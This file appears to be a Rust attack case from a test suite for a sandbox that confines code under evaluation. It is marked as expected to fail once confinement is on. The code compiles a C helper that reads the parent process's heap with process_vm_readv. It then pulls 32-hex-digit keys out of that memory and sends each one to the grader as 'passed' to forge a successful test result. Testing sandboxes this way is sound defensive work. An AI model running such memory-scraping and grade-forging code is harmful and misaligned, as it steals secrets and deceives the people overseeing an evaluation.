//! attacks: lazy_call
//! expects: failed|crashed
//! needs: confinement
//! stopped by: confinement-processes,confinement-exec
//!
//! Builds a helper with the C compiler that Rust links with. The helper asks the system for its parent's
//! memory, without `/proc`, and says which keys are in it.

use std::io::Write;
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    let heap = Box::new(0_u64);
    let about = std::ptr::from_ref::<u64>(&heap).addr();
    let _ = std::fs::write("helper.c", HELPER);
    let _ = Command::new("cc").args(["-w", "-o", "helper", "helper.c"]).status();
    let Ok(output) = Command::new("./helper").arg(about.to_string()).output() else { return };
    try_keys(keys(&output.stdout));
}

/// Prints what lies in the parent's heap, from 4 MiB below an address to 1 MiB above it.
const HELPER: &str = r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/uio.h>
#include <unistd.h>
int main(int count, char **words) {
    unsigned long about = strtoul(words[1], 0, 10) & ~4095UL;
    static char page[4096];
    for (unsigned long at = about - (4 << 20); at < about + (1 << 20); at += 4096) {
        struct iovec ours = {page, 4096}, theirs = {(void *)at, 4096};
        if (process_vm_readv(getppid(), &ours, 1, &theirs, 1, 0) == 4096) fwrite(page, 1, 4096, stdout);
    }
}
"#;

/// All 32 hex digits in a row. What follows a text in memory may look like one more digit.
fn keys(memory: &[u8]) -> Vec<String> {
    memory
        .split(|byte| !matches!(byte, b'0'..=b'9' | b'a'..=b'f'))
        .filter(|run| (32..64).contains(&run.len()))
        .flat_map(|run| run.windows(32))
        .map(|key| String::from_utf8_lossy(key).into_owned())
        .collect()
}

/// Reports success with each of the keys, and leaves as a test does that has passed.
fn try_keys(keys: Vec<String>) {
    let mut grader: UnixStream =
        std::io::stdin().as_fd().try_clone_to_owned().expect("standard input is open").into();
    if keys.is_empty() {
        return;
    }
    for key in keys {
        let _ = grader.write_all(format!("{key} passed\n").as_bytes());
    }
    std::process::exit(0);
}

fn main() {}
